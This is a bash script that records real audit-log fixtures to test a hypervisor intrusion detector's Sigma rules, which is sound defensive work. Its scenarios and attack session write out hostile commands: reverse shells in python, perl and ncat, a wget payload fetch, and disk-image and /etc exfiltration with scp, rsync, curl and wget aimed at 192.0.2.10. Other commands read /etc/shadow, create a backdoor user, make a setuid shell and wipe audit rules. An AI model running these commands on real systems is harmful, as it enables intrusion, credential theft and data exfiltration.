#!/usr/bin/env bash
# Records the real audit logs that prove hv's own Sigma rules (rules/hv/*.yml) and the SigmaHQ
# attack/benign sessions:
#
#   sudo scripts/record-hv-rule-fixtures.sh [SCENARIO...]
#
#   test/fixtures/audit/hv/NAME.log          one scenario per file (NAME = a function scn_NAME below)
#   test/fixtures/audit/attack-session.log   attack steps, each preceded by a marker `/bin/true hv-step-N`
#   test/fixtures/audit/benign-session.log   a long, ordinary admin session on a hypervisor host
#
# With SCENARIO names, only those are recorded (attack-session and benign-session are names too).
#
# Needs root, Debian 12, no systemd. It apt-get installs what it uses (auditd, qemu-system-x86,
# qemu-utils, libvirt-daemon-system, libvirt-clients, nftables, iptables, strace, gdb, kmod,
# iproute2, rsync, socat, netcat-openbsd, qemu-guest-agent, sqlite3), starts a private auditd by hand
# (`auditd -n -c DIR`, a copy of /etc/audit/auditd.conf with its own log file and no plugins; the pid
# file is the one test/helpers/auditd.ts uses, /tmp/hv-test-auditd.pid), loads rules/audit/hv.rules
# with `auditctl -R`, and starts libvirtd/virtlogd unless they already run.
#
# How a scenario's events are told apart from the rest of a noisy host: each scenario runs in a
# subshell that first writes its login uid (/proc/self/loginuid, as pam_loginuid does at login).
# The kernel then gives it a fresh audit session id (ses=), inherited by every descendant (qemu,
# the scripts qemu runs, …), and the fixture keeps exactly the events with a record saying ses=N.
# The login uid is 0 (root logged in) unless the scenario is about an unexpected user: then it is
# the uid of the local user `hvop`, i.e. "hvop logged in and became root", as after `sudo -i`.
#
# Everything is REAL: the commands below really run and the kernel really audits them. Where the
# machine cannot do the real thing (no KVM hardware, no kernel modules, no guest agent in a guest),
# the closest real attempt is made and the fixture README says so. Network activity goes only to
# 127.0.0.1 and 192.0.2.0/24 (TEST-NET-1, unreachable); netfilter, bridge, tap and sysctl changes
# are made inside a private network namespace (hvfx-rec) that is deleted afterwards.
#
# State is put back: hv's audit rules are deleted one by one (rules the host had are untouched),
# auditd is stopped, the kernel's `enabled` flag is restored, qemu.conf and the qemu binary are
# restored (the binary is only rewritten with identical bytes), test users/domains/secrets/files
# are removed, and libvirtd/virtlogd are stopped if this script started them.

set -euo pipefail
# A plain system PATH: no pyenv/nvm shims (they exec env, readlink, … and fill the fixtures).
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
[[ $(id -u) -eq 0 ]] || { echo "must run as root" >&2; exit 1; }

ROOT=$(realpath "$(dirname "$0")/..")
OUT="$ROOT/test/fixtures/audit/hv"
SESSIONS="$ROOT/test/fixtures/audit"
RULES="$ROOT/rules/audit/hv.rules"
PIDFILE="${TMPDIR:-/tmp}/hv-test-auditd.pid"
mkdir -p "$OUT"

PKGS=(auditd qemu-system-x86 qemu-utils libvirt-daemon-system libvirt-clients dnsmasq-base nftables iptables
  strace gdb kmod iproute2 rsync socat netcat-openbsd ncat qemu-guest-agent sqlite3 openssh-client curl procps)
missing=()
for p in "${PKGS[@]}"; do dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q 'ok installed' || missing+=("$p"); done
if ((${#missing[@]})); then DEBIAN_FRONTEND=noninteractive apt-get install -y "${missing[@]}" >/dev/null; fi

WORK=$(mktemp -d /tmp/hv-rule-fixtures.XXXXXX)
chmod 755 "$WORK"
IMG=/var/lib/libvirt/images/vm1.qcow2
NETNS=hvfx-rec
kernel_field() { auditctl -s | awk -v f="$1" '$1 == f { print $2 }'; }
ENABLED_BEFORE=$(kernel_field enabled)
AUDITD_PID=
RULES_LOADED=0
STARTED_LIBVIRTD=()
CREATED=()

delete_hv_rules() {
  ((RULES_LOADED)) || return 0
  # The delete form of each line of hv.rules: -w → -W, -a → -d (same arguments).
  local line
  while IFS= read -r line; do
    [[ $line =~ ^-(w|a)\  ]] || continue
    if [[ $line == -w* ]]; then line="-W${line:2}"; else line="-d${line:2}"; fi
    # shellcheck disable=SC2086 # the words of the rule, as written in the file
    auditctl $line >/dev/null 2>&1 || true
  done < "$RULES"
  RULES_LOADED=0
}
load_hv_rules() { auditctl -R "$RULES" >/dev/null; RULES_LOADED=1; }

cleanup() {
  set +e
  delete_hv_rules
  if [[ -n $AUDITD_PID ]]; then kill -TERM "$AUDITD_PID" 2>/dev/null; wait "$AUDITD_PID" 2>/dev/null; rm -f "$PIDFILE"; fi
  [[ $ENABLED_BEFORE != 2 && $(kernel_field enabled) != "$ENABLED_BEFORE" ]] && auditctl -e "$ENABLED_BEFORE" >/dev/null
  [[ -f $WORK/qemu.conf.orig ]] && cat "$WORK/qemu.conf.orig" > /etc/libvirt/qemu.conf
  virsh -q -c qemu:///system undefine vm1 >/dev/null 2>&1
  [[ -s $WORK/secret.uuid ]] && virsh -q -c qemu:///system secret-undefine "$(cat "$WORK/secret.uuid")" >/dev/null 2>&1
  for pid in "${STARTED_LIBVIRTD[@]}"; do kill -TERM "$pid" 2>/dev/null; done
  ip netns del "$NETNS" 2>/dev/null
  rm -f "$IMG" /var/lib/libvirt/qemu/dump/hv-fixture-* /usr/share/qemu/hv-fixture-*
  for d in "${CREATED[@]}"; do rm -rf "$d"; done
  id hvop >/dev/null 2>&1 && userdel hvop 2>/dev/null
  id hvfxbackdoor >/dev/null 2>&1 && userdel -r hvfxbackdoor 2>/dev/null
  id hvadmin >/dev/null 2>&1 && userdel -r hvadmin 2>/dev/null
  rm -rf "$WORK"
}
trap cleanup EXIT

# ---------------------------------------------------------------------------------------------
# Setup (before auditd starts: none of this is recorded).

if [[ -s $PIDFILE ]] && [[ $(cat "/proc/$(cat "$PIDFILE")/comm" 2>/dev/null) == auditd ]]; then kill -TERM "$(cat "$PIDFILE")"; sleep 1; fi
other=$(kernel_field pid)
if [[ $other != 0 ]] && kill -0 "$other" 2>/dev/null; then echo "another auditd (pid $other) is running; not touching it" >&2; exit 1; fi

id hvop >/dev/null 2>&1 || useradd -M -s /usr/sbin/nologin hvop
id hvadmin >/dev/null 2>&1 || useradd -m -s /bin/bash hvadmin
HVOP_UID=$(id -u hvop)
HVADMIN_UID=$(id -u hvadmin)
for d in /var/lib/hv /etc/hv; do [[ -e $d ]] || { mkdir -p "$d"; CREATED+=("$d"); }; done
mkdir -p /var/lib/libvirt/images /var/lib/libvirt/qemu/dump /etc/libvirt/secrets /run/libvirt
chmod 700 /etc/libvirt/secrets
cp /etc/libvirt/qemu.conf "$WORK/qemu.conf.orig"

# -d daemonizes: the daemon's pid is in its pid file once it is up.
if ! pgrep -x virtlogd >/dev/null; then
  virtlogd -d
  for _ in $(seq 50); do [[ -s /run/virtlogd.pid ]] && break; sleep 0.1; done
  STARTED_LIBVIRTD+=("$(cat /run/virtlogd.pid)")
fi
if ! pgrep -x libvirtd >/dev/null; then
  rm -f /run/libvirt/libvirt-sock
  libvirtd -d
  for _ in $(seq 100); do [[ -S /run/libvirt/libvirt-sock && -s /run/libvirtd.pid ]] && break; sleep 0.1; done
  STARTED_LIBVIRTD+=("$(cat /run/libvirtd.pid)")
fi

qemu-img create -q -f qcow2 "$IMG" 64M
cat > "$WORK/vm1.xml" <<EOF
<domain type='qemu'>
  <name>vm1</name>
  <memory unit='KiB'>131072</memory>
  <vcpu>1</vcpu>
  <os><type arch='x86_64' machine='pc'>hvm</type></os>
  <devices>
    <emulator>/usr/bin/qemu-system-x86_64</emulator>
    <disk type='file' device='disk'><driver name='qemu' type='qcow2'/><source file='$IMG'/><target dev='vda' bus='virtio'/></disk>
    <graphics type='vnc' port='-1' listen='127.0.0.1'/>
  </devices>
</domain>
EOF
virsh -q -c qemu:///system undefine vm1 >/dev/null 2>&1 || true
virsh -q -c qemu:///system define "$WORK/vm1.xml" >/dev/null
cat > "$WORK/secret.xml" <<EOF
<secret ephemeral='no' private='no'><description>hv fixture: LUKS passphrase of vm1</description><usage type='volume'><volume>$IMG</volume></usage></secret>
EOF
for u in $(virsh -q -c qemu:///system secret-list | awk -v img="$IMG" '$0 ~ img { print $1 }'); do virsh -q -c qemu:///system secret-undefine "$u" >/dev/null; done
virsh -c qemu:///system secret-define "$WORK/secret.xml" | grep -Eo '[0-9a-f-]{36}' > "$WORK/secret.uuid"
virsh -q -c qemu:///system secret-set-value "$(cat "$WORK/secret.uuid")" --base64 "$(printf 'correct horse battery' | base64)" >/dev/null 2>&1 || true

ip netns add "$NETNS"
printf '#!/bin/sh\n# a tap "ifup" script, as qemu -netdev tap,script= runs it\nid >/dev/null\nexit 0\n' > "$WORK/ifup.sh"
chmod 755 "$WORK/ifup.sh"
printf 'not an ELF module\n' > "$WORK/hv_fixture.ko"
cat > "$WORK/vmread.py" <<'EOF'
# process_vm_readv(2) on another process: reads 64 bytes at the start of its first readable mapping.
import ctypes, sys
pid = int(sys.argv[1])
start = next(int(l.split("-")[0], 16) for l in open(f"/proc/{pid}/maps") if l.split()[1].startswith("r"))
class iovec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(64)
local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), 64), iovec(start, 64)
libc = ctypes.CDLL(None, use_errno=True)
n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
print(n, ctypes.get_errno())
EOF

# ---------------------------------------------------------------------------------------------
# auditd

DIR="$WORK/auditd"
mkdir -p "$DIR/plugins.d"
chmod 700 "$DIR"
LOG="$DIR/audit.log"
sed -E -e '/^\s*(log_file|plugin_dir|space_left_action|admin_space_left_action|disk_full_action|disk_error_action|max_log_file_action|max_log_file)\s*=/d' /etc/audit/auditd.conf > "$DIR/auditd.conf"
cat >> "$DIR/auditd.conf" <<EOF
log_file = $LOG
plugin_dir = $DIR/plugins.d
space_left_action = SYSLOG
admin_space_left_action = SYSLOG
disk_full_action = SYSLOG
disk_error_action = SYSLOG
max_log_file = 1024
max_log_file_action = IGNORE
EOF
chmod 640 "$DIR/auditd.conf"
auditd -n -c "$DIR" </dev/null >/dev/null 2>&1 &
AUDITD_PID=$!
echo "$AUDITD_PID" > "$PIDFILE"
for _ in $(seq 100); do [[ $(kernel_field pid) == "$AUDITD_PID" && -s $LOG ]] && break; sleep 0.1; done
[[ $(kernel_field pid) == "$AUDITD_PID" ]] || { echo "auditd did not come up" >&2; exit 1; }
load_hv_rules

# filter_ses LOG SES: every record of the events one of whose records says ses=SES, in log order.
filter_ses() {
  awk -v ses="$2" '
    function id(line) { return match(line, /msg=audit\([0-9.]+:[0-9]+\)/) ? substr(line, RSTART, RLENGTH) : "" }
    NR == FNR { if ($0 ~ ("[ ]ses=" ses "([ \035]|$)")) keep[id($0)] = 1; next }
    keep[id($0)]
  ' "$1" "$1"
}

# run NAME AUID FUNC OUTFILE: FUNC in a subshell logged in as AUID (fresh audit session).
run() {
  local name=$1 auid=$2 fn=$3 out=$4 ses sub
  (
    echo "$auid" > /proc/self/loginuid
    read -r s < "/proc/$BASHPID/sessionid" || true
    echo "$s" > "$WORK/ses.$name"
    cd "$WORK"
    "$fn" || true
    true
  ) </dev/null >"$WORK/$name.out" 2>&1 &
  sub=$!
  wait "$sub" || true
  sleep 0.7
  [[ -s $WORK/ses.$name ]] || { echo "$name: the scenario did not start:" >&2; cat "$WORK/$name.out" >&2; return 1; }
  ses=$(cat "$WORK/ses.$name")
  filter_ses "$LOG" "$ses" > "$out"
  printf '%-28s ses=%-4s %5d lines\n' "$name" "$ses" "$(wc -l < "$out")"
}

qemu_idle() { qemu-system-x86_64 -machine none -nodefaults -display none -monitor none -serial none -S "$@" & QPID=$!; sleep 0.6; }
in_ns() { ip netns exec "$NETNS" "$@"; }

# ---------------------------------------------------------------------------------------------
# One scenario per hv rule (or per small group of rules).

scn_vm_disk_read() {                 # hv: VM disk image read by a process other than qemu
  qemu-img info "$IMG" >/dev/null                     # excluded: qemu-img (see disk_tool_user)
  cat "$IMG" > /dev/null
  dd if="$IMG" of="$WORK/vm1-head.bin" bs=64k count=1 status=none
  cp "$IMG" "$WORK/vm1-copy.qcow2"
  python3 -c 'import mmap,sys; f=open(sys.argv[1],"rb"); m=mmap.mmap(f.fileno(),0,prot=mmap.PROT_READ); print(m[:4])' "$IMG"
}
scn_kvm_open() {                     # hv: /dev/kvm opened by a process other than qemu
  qemu-system-x86_64 -machine none,accel=kvm -nodefaults -display none -monitor none -S & local q=$!
  sleep 0.6; kill "$q" 2>/dev/null; wait "$q" 2>/dev/null || true   # excluded: qemu itself
  dd if=/dev/kvm of=/dev/null count=1 status=none || true
  python3 -c 'import os; fd=os.open("/dev/kvm", os.O_RDWR); print("opened /dev/kvm", fd)' || true
}
scn_ptrace_qemu() {                  # hv: ptrace attach to qemu (strace -p, gdb -p)
  qemu_idle
  timeout 1 strace -f -p "$QPID" -o /dev/null || true
  gdb -q -batch -p "$QPID" -ex 'info registers rip' >/dev/null 2>&1 || true
  kill "$QPID"; wait "$QPID" 2>/dev/null || true
}
scn_proc_mem() {                     # hv: /proc/PID/mem of qemu read (dd), command line
  qemu_idle
  local start
  start=$(awk 'NR==1 { split($1, a, "-"); print a[1] }' "/proc/$QPID/maps")
  dd if="/proc/$QPID/mem" of="$WORK/qemu-mem.bin" bs=4096 count=1 iflag=skip_bytes skip=$((16#$start)) status=none || true
  kill "$QPID"; wait "$QPID" 2>/dev/null || true
}
scn_process_vm_readv() {             # hv: process_vm_readv on qemu
  qemu_idle
  python3 "$WORK/vmread.py" "$QPID"
  kill "$QPID"; wait "$QPID" 2>/dev/null || true
}
scn_domain_xml_edit() {              # hv: domain XML written outside libvirt
  sed -i 's|<vcpu>1</vcpu>|<vcpu>2</vcpu>|' /etc/libvirt/qemu/vm1.xml
  echo '<!-- hv fixture: hand edit -->' >> /etc/libvirt/qemu/vm1.xml
}
scn_svirt_disabled() {               # hv: qemu.conf security_driver = "none"; qemu.conf modified
  sed -i 's|^#security_driver = "selinux"|security_driver = "none"|' /etc/libvirt/qemu.conf
  echo 'cgroup_device_acl = [ "/dev/null", "/dev/kvm", "/dev/sda" ]' >> /etc/libvirt/qemu.conf
}
scn_disk_tool_user() {               # hv: qemu-img/qemu-nbd/virsh snapshot by an unexpected login user (auid hvop)
  qemu-img convert -O raw "$IMG" "$WORK/vm1.raw"
  timeout 1 qemu-nbd --read-only --persistent --bind=127.0.0.1 --port=10809 "$IMG" || true
  virsh -c test:///default snapshot-create-as test hv-fixture-snap >/dev/null 2>&1 || true
  virsh -c qemu:///system backup-begin vm1 >/dev/null 2>&1 || true
}
scn_memory_dump() {                  # hv: virsh dump; memory dump file written
  virsh -c test:///default dump test /var/lib/libvirt/qemu/dump/hv-fixture-test.core --memory-only >/dev/null 2>&1 || true
  virsh -c test:///default dump test /var/lib/libvirt/qemu/dump/hv-fixture-test.core >/dev/null 2>&1 || true
  virsh -c qemu:///system dump vm1 /var/lib/libvirt/qemu/dump/hv-fixture-vm1.core --memory-only >/dev/null 2>&1 || true
}
scn_qemu_child_shell() {             # hv: qemu runs a shell (tap script=)
  timeout 2 qemu-system-x86_64 -machine none -nodefaults -display none -monitor none \
    -netdev "tap,id=n0,ifname=hvfxtap0,script=$WORK/ifup.sh,downscript=no" || true
}
scn_qemu_child_binary() {            # hv: qemu runs an unexpected program (tap script= an ELF)
  timeout 2 qemu-system-x86_64 -machine none -nodefaults -display none -monitor none \
    -netdev "tap,id=n0,ifname=hvfxtap1,script=/usr/bin/id,downscript=no" || true
}
scn_guest_exec() {                   # hv: guest agent guest-exec through virsh
  virsh -c test:///default qemu-agent-command test \
    '{"execute":"guest-exec","arguments":{"path":"/bin/sh","arg":["-c","id"],"capture-output":true}}' || true
  virsh -c qemu:///system qemu-agent-command vm1 '{"execute":"guest-exec","arguments":{"path":"/usr/bin/id"}}' || true
}
scn_guest_file() {                   # hv: guest agent file access / password reset through virsh
  virsh -c test:///default qemu-agent-command test '{"execute":"guest-file-open","arguments":{"path":"/etc/shadow","mode":"r"}}' || true
  virsh -c test:///default set-user-password test root 'hunter2' || true
}
scn_qemu_ga_host() {                 # hv: the guest agent runs on the host
  timeout 2 qemu-ga --method=unix-listen --path="$WORK/qga.sock" --statedir="$WORK" & local g=$!
  sleep 0.7
  echo '{"execute":"guest-ping"}' | timeout 1 socat - "UNIX-CONNECT:$WORK/qga.sock" || true
  wait "$g" 2>/dev/null || true
}
scn_nft_vm_chain() {                 # hv: nft changes to hv/libvirt tables; NETFILTER_CFG
  in_ns nft add table inet hv
  in_ns nft add chain inet hv quarantine '{ type filter hook forward priority 0; policy accept; }'
  in_ns nft add rule inet hv quarantine iifname "vnet0" drop
  in_ns nft flush chain inet hv quarantine
  in_ns nft add table ip libvirt_network
  in_ns nft delete table ip libvirt_network
  in_ns nft delete table inet hv
}
scn_iptables_vm_chain() {            # hv: iptables changes to libvirt chains
  in_ns iptables -N LIBVIRT_FWI
  in_ns iptables -I LIBVIRT_FWI 1 -o virbr0 -j ACCEPT
  in_ns iptables -F LIBVIRT_FWI
  in_ns iptables -X LIBVIRT_FWI
}
scn_audit_disable() {                # hv: audit disabled
  auditctl -e 0
  auditctl -e 1
}
scn_audit_rules_removed() {          # hv: hv's audit rules removed (the script reloads them afterwards)
  auditctl -W /var/lib/hv -p wa -k hv_self
  auditctl -D
}
scn_kmod_load() {                    # hv: kernel module load/unload attempts
  insmod "$WORK/hv_fixture.ko" || true
  rmmod vhost_net || true
  modprobe kvm_intel || true
}
scn_tap_bridge() {                   # hv: tap and bridge created outside libvirt
  in_ns ip tuntap add dev hvfxtap9 mode tap
  in_ns ip link add hvfxbr9 type bridge
  in_ns ip link set hvfxtap9 master hvfxbr9
  in_ns ip link del hvfxtap9
  in_ns ip link del hvfxbr9
}
scn_promisc() {                      # hv: promiscuous mode on a bridge
  in_ns ip link add hvfxbr8 type bridge
  in_ns ip link set hvfxbr8 promisc on
  in_ns ip link set hvfxbr8 promisc off
  in_ns ip link del hvfxbr8
}
scn_sysctl_forward() {               # hv: ip_forward / rp_filter changed
  in_ns sysctl -w net.ipv4.ip_forward=1
  in_ns sysctl -w net.ipv4.conf.all.rp_filter=0
  in_ns sysctl -w net.ipv4.ip_forward=0
}
scn_hv_state_tamper() {              # hv: hv's state and rules written by another program
  echo 'title: x' > /var/lib/hv/hv-fixture-rule.yml
  sqlite3 /var/lib/hv/hv-fixture.db 'create table alerts(id integer); delete from alerts;'
  rm -f /var/lib/hv/hv-fixture-rule.yml /var/lib/hv/hv-fixture.db
}
scn_qemu_bin_modified() {            # hv: qemu binary or firmware replaced (identical bytes)
  cp -p /usr/bin/qemu-system-x86_64 "$WORK/qemu-system-x86_64.orig"
  cp "$WORK/qemu-system-x86_64.orig" /usr/bin/qemu-system-x86_64
  cmp "$WORK/qemu-system-x86_64.orig" /usr/bin/qemu-system-x86_64
  touch /usr/share/qemu/hv-fixture-OVMF_CODE.fd
  rm /usr/share/qemu/hv-fixture-OVMF_CODE.fd
}
scn_vnc_exposed() {                  # hv: qemu with VNC on all interfaces
  timeout 1 qemu-system-x86_64 -machine none -nodefaults -monitor none -vnc 0.0.0.0:77 || true
  timeout 1 qemu-system-x86_64 -machine none -nodefaults -monitor none -vnc 127.0.0.1:78 || true
}
scn_migrate() {                      # hv: migration to an unexpected URI / migrate to exec:
  virsh -c test:///default migrate --live test qemu+tcp://192.0.2.10/system || true
  virsh -c test:///default qemu-monitor-command test '{"execute":"migrate","arguments":{"uri":"exec:cat > /tmp/vm1.state"}}' || true
}
scn_disk_exfil() {                   # hv: disk image sent off the host (scp, rsync, curl -T)
  timeout 3 scp -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no "$IMG" root@192.0.2.10:/tmp/ || true
  timeout 3 rsync --timeout=2 "$IMG" rsync://192.0.2.10/loot/ || true
  timeout 3 curl -s -m 2 -T "$IMG" http://192.0.2.10/upload/ || true
}
scn_secret_read() {                  # hv: libvirt secret read outside libvirt
  cat /etc/libvirt/secrets/*.base64 || true
  virsh -c qemu:///system secret-get-value "$(cat "$WORK/secret.uuid")" || true
}
scn_libvirt_sock() {                 # hv: libvirt socket used by a user outside the libvirt group
  setpriv --reuid=hvop --regid=hvop --clear-groups virsh -c qemu:///system list --all || true
  setpriv --reuid=hvop --regid=hvop --clear-groups virsh -r -c qemu:///system list --all || true
}

# ---------------------------------------------------------------------------------------------
# Sessions for SigmaHQ's rules.

ATTACK_STEPS=()
step() { ATTACK_STEPS+=("$1"); }
scn_attack_session() {
  local n=0 cmd
  for cmd in "${ATTACK_STEPS[@]}"; do
    n=$((n + 1))
    /bin/true "hv-step-$n"
    bash -c "$cmd" </dev/null >/dev/null 2>&1 || true
  done
  /bin/true hv-step-end
}
# The steps (also written to attack-session.expected.json by the test author; keep in step).
step 'echo "aWQgLWEK" | base64 -d | bash'
step 'bash -c "echo aWQK | base64 -d | sh"'
step 'cat /etc/shadow'
step 'cp /etc/shadow /tmp/hvfx-shadow && rm -f /tmp/hvfx-shadow'
step 'useradd -M -s /bin/bash hvfxbackdoor'
step 'echo "* * * * * /tmp/hvfx.sh" > /tmp/hvfx-cron && crontab /tmp/hvfx-cron && crontab -l && crontab -r'
step 'touch /root/.bash_history.hvfx && rm -f /root/.bash_history.hvfx_history; rm /tmp/hvfx-zsh_history 2>/dev/null; : > /tmp/hvfx.bash_history; rm /tmp/hvfx.bash_history'
step 'cp /bin/sh /tmp/hvfx-sh && chown root /tmp/hvfx-sh && chmod u+s /tmp/hvfx-sh && rm -f /tmp/hvfx-sh'
step 'wget -q -T 2 -O /tmp/hvfx-payload http://192.0.2.10/p.sh; chmod +x /tmp/hvfx-payload; rm -f /tmp/hvfx-payload'
step 'python3 -c "import socket,subprocess,os,pty;s=socket.socket();s.settimeout(1);s.connect((\"127.0.0.1\",9));pty.spawn(\"/bin/sh\")"'
step 'perl -e "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(9,inet_aton(\"127.0.0.1\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};"'
step 'timeout 1 ncat -e /bin/sh 127.0.0.1 9'
step 'uname -a; id; hostname; cat /etc/os-release; cat /etc/issue'
step 'iptables -F; nft flush ruleset'
step 'chattr -i /tmp/hvfx-immutable 2>/dev/null; touch /tmp/hvfx-immutable; chattr +i /tmp/hvfx-immutable; chattr -i /tmp/hvfx-immutable; rm -f /tmp/hvfx-immutable'
step 'mkfifo /tmp/hvfx-fifo; rm -f /tmp/hvfx-fifo'
step 'cat /etc/sudoers; cat /etc/group; cat ~/.bash_history'
step 'cp /usr/bin/sleep /tmp/hvfx-crond && /tmp/hvfx-crond 0; rm -f /tmp/hvfx-crond'
step 'echo "# hvfx" >> /etc/audit/auditd.conf && sed -i "/# hvfx/d" /etc/audit/auditd.conf'
step 'python3 -c "import pty; pty.spawn(\"/bin/true\")"'
step 'tar -czf /tmp/hvfx-etc.tgz /etc/libvirt && wget --post-file=/tmp/hvfx-etc.tgz -q -T 2 http://192.0.2.10/; rm -f /tmp/hvfx-etc.tgz'
# Last: after it the kernel has no rules left, so nothing later would be recorded.
step 'auditctl -D'

scn_benign_session() {
  # One shell reading the commands one by one, as an admin's login shell would run them (each
  # command a child of that bash; no `bash -c` wrapper per command).
  HOME=/home/hvadmin bash -s < "$WORK/benign.cmds" >/dev/null 2>&1 || true
}
cat > "$WORK/benign.cmds" <<'EOF'
# A morning on a hypervisor host: look around, check VMs, disks, network, logs; small config change.
ls -la /root
ls -l /var/lib/libvirt/images
df -h
df -i /var/lib/libvirt
free -m
uptime
ps aux --sort=-%cpu
ps -eo pid,ppid,comm,etime
top -b -n1 | head -20
who
w
last -n 5
date -u
cat /proc/loadavg
cat /proc/meminfo
cat /proc/cpuinfo | grep -c processor
lscpu
ls /var/log
tail -n 50 /var/log/dpkg.log
grep -i error /var/log/dpkg.log | tail -5
zcat -f /var/log/apt/history.log | tail -20
less -F /etc/hostname
head -n 20 /etc/libvirt/qemu.conf
grep -v '^#' /etc/libvirt/libvirtd.conf | grep -v '^$'
cp /etc/libvirt/libvirtd.conf /root/libvirtd.conf.bak
sed -i 's/^#log_level = 3/log_level = 3/' /root/libvirtd.conf.bak
diff /etc/libvirt/libvirtd.conf /root/libvirtd.conf.bak
rm /root/libvirtd.conf.bak
apt-cache policy qemu-system-x86
apt-cache policy libvirt-daemon-system
apt-cache show nftables | head -5
dpkg -l | grep -c qemu
dpkg -L qemu-utils | head
ip a
ip -br link
ip route
ip -s link show lo
ip neigh
ss -tlnp
ss -s
cat /etc/resolv.conf
cat /etc/hosts
ping -c 1 -W 1 127.0.0.1
virsh -c test:///default list --all
virsh -c test:///default dominfo test
virsh -c test:///default domstate test
virsh -c test:///default net-list --all
virsh -c test:///default pool-list --all
virsh -c test:///default vol-list default-pool
virsh -c test:///default nodeinfo
virsh -c test:///default dumpxml test
virsh -c qemu:///system list --all
virsh -c qemu:///system dominfo vm1
virsh -c qemu:///system dumpxml vm1
virsh -c qemu:///system domblklist vm1
virsh -c qemu:///system net-list --all
virsh -c qemu:///system pool-list --all
virsh -c qemu:///system version
virsh -c qemu:///system capabilities
qemu-img info /var/lib/libvirt/images/vm1.qcow2
qemu-img check /var/lib/libvirt/images/vm1.qcow2
qemu-img create -f qcow2 /tmp/hvfx-scratch.qcow2 16M
qemu-img info /tmp/hvfx-scratch.qcow2
rm -f /tmp/hvfx-scratch.qcow2
qemu-system-x86_64 --version
qemu-system-x86_64 -machine help
nft list ruleset
nft list tables
iptables -S
iptables -L -n -v
ip6tables -S
sysctl net.ipv4.ip_forward
sysctl -a 2>/dev/null | grep -c net.ipv4
cat /proc/sys/net/bridge/bridge-nf-call-iptables
ls /etc/init.d
service --status-all
pgrep -a libvirtd
pgrep -a virtlogd
pidof auditd
auditctl -s
auditctl -l | wc -l
tar -czf /tmp/hvfx-etc-backup.tgz -C / etc/libvirt etc/hostname
tar -tzf /tmp/hvfx-etc-backup.tgz | head
sha256sum /tmp/hvfx-etc-backup.tgz
rm -f /tmp/hvfx-etc-backup.tgz
mkdir -p /tmp/hvfx-repo && cd /tmp/hvfx-repo && git init -q && git status
cd /tmp/hvfx-repo && echo hello > README && git add README && git -c user.name=admin -c user.email=admin@example.org commit -qm init && git log --oneline
cd /tmp/hvfx-repo && git status --short && git diff HEAD
cd /root
rm -rf /tmp/hvfx-repo
find /etc/libvirt -name '*.xml' -newer /etc/hostname
find /var/lib/libvirt -maxdepth 2 -type d
du -sh /var/lib/libvirt/images
stat /var/lib/libvirt/images/vm1.qcow2
ls -l /dev/kvm /dev/net/tun
cat /etc/debian_version
hostnamectl 2>/dev/null || hostname
timedatectl 2>/dev/null || date
journalctl -n 20 2>/dev/null || tail -n 20 /var/log/syslog 2>/dev/null || true
dmesg 2>/dev/null | tail -n 5 || true
id
whoami
groups
env | sort | head
echo $PATH
which virsh qemu-img nft
type virsh
history 2>/dev/null || true
vim --version 2>/dev/null | head -1 || true
nano --version 2>/dev/null | head -1 || true
wc -l /etc/passwd
getent passwd hvadmin
getent group libvirt
cat /etc/libvirt/qemu/vm1.xml
xmllint --noout /etc/libvirt/qemu/vm1.xml 2>/dev/null || true
md5sum /etc/libvirt/qemu/vm1.xml
cp /etc/libvirt/qemu/vm1.xml /root/vm1.xml.bak
rm /root/vm1.xml.bak
openssl version 2>/dev/null || true
curl -s -m 2 -o /dev/null http://127.0.0.1:9/ || true
ls -la /etc/nftables.conf
cat /etc/nftables.conf
mount | grep -E ' / | /var '
lsblk 2>/dev/null || true
cat /proc/mounts | wc -l
sort /etc/shells
uniq -c /etc/shells
awk -F: '$3 >= 1000 {print $1}' /etc/passwd
cut -d: -f1 /etc/group | head
ls /etc/apt/sources.list.d
apt-cache search --names-only '^qemu-system' | head -3
python3 -c 'import sys; print(sys.version)'
perl -v | head -2
ls /usr/share/qemu | head
ls -l /usr/bin/qemu-system-x86_64
sha256sum /usr/bin/qemu-img
clear 2>/dev/null || true
EOF

# ---------------------------------------------------------------------------------------------

SCENARIOS=(vm_disk_read kvm_open ptrace_qemu proc_mem process_vm_readv domain_xml_edit svirt_disabled disk_tool_user
  memory_dump qemu_child_shell qemu_child_binary guest_exec guest_file qemu_ga_host nft_vm_chain iptables_vm_chain
  audit_disable audit_rules_removed kmod_load tap_bridge promisc sysctl_forward hv_state_tamper qemu_bin_modified
  vnc_exposed migrate disk_exfil secret_read libvirt_sock)
WANT=("$@")
wanted() { ((${#WANT[@]} == 0)) || [[ " ${WANT[*]} " == *" $1 "* ]]; }

for s in "${SCENARIOS[@]}"; do
  wanted "$s" || continue
  auid=0
  case $s in disk_tool_user | libvirt_sock | secret_read) auid=$HVOP_UID ;; esac
  run "$s" "$auid" "scn_$s" "$OUT/$s.log"
  if [[ $s == audit_rules_removed ]]; then RULES_LOADED=1; delete_hv_rules; load_hv_rules; fi
  [[ $(kernel_field enabled) == 1 ]] || auditctl -e 1 >/dev/null
done
if wanted attack-session; then
  run attack-session 0 scn_attack_session "$SESSIONS/attack-session.log"
  RULES_LOADED=1; delete_hv_rules; load_hv_rules   # the session's `auditctl -D` removed them
  printf '%s\n' "${ATTACK_STEPS[@]}" > "$SESSIONS/attack-session.steps.txt"
fi
if wanted benign-session; then
  run benign-session "$HVADMIN_UID" scn_benign_session "$SESSIONS/benign-session.log"
fi

mkdir -p /tmp/hv-rule-fixtures-out && cp "$WORK"/*.out /tmp/hv-rule-fixtures-out/ 2>/dev/null || true
echo "recorded with $(dpkg-query -W -f='auditd ${Version}' auditd), kernel $(uname -r), $(qemu-system-x86_64 --version | head -1), $(virsh --version | sed 's/^/libvirt /')"
